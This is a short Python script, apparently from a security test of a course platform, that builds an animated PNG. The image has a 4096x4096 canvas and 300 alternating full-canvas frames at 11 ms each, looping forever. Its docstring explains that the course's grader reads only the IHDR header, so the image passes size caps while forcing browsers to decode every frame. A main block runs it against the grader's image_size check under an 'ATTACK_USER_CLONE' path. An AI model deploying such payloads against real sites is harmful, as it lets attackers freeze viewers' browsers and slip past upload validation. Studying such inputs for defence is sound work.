"""An animated PNG (APNG, which Chrome, Firefox and Safari play): its IHDR (all the course reads) says the canvas,
4096 x 4096, inside the caps; acTL/fcTL/fdAT add F full-canvas frames of 11 ms each, looping forever, each different
from the last (so each must be decoded again). 1-bit grey: a frame is about 2 kB of zlib."""
import struct, zlib

def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)

def apng(W=4096, H=4096, F=300, delay=(11, 1000)):
    rows = [bytes(1 + (W + 7) // 8), b"\x00" + b"\xff" * ((W + 7) // 8)]
    frames = [zlib.compress(rows[k % 2] * H, 9) for k in range(2)]
    out = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", W, H, 1, 0, 0, 0, 0))
    out += chunk(b"acTL", struct.pack(">II", F, 0))
    seq = 0
    for k in range(F):
        out += chunk(b"fcTL", struct.pack(">IIIIIHHBB", seq, W, H, 0, 0, delay[0], delay[1], 0, 0)); seq += 1
        if k == 0:
            out += chunk(b"IDAT", frames[0])
        else:
            out += chunk(b"fdAT", struct.pack(">I", seq) + frames[k % 2]); seq += 1
    return out + chunk(b"IEND", b"")

if __name__ == "__main__":
    import base64, sys
    sys.path.insert(0, (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))
    from grader.feedback import image_size
    b = apng()
    print("bytes", len(b), "base64", len(base64.b64encode(b)), "course image_size ->", image_size("image/png", base64.b64encode(b).decode()))
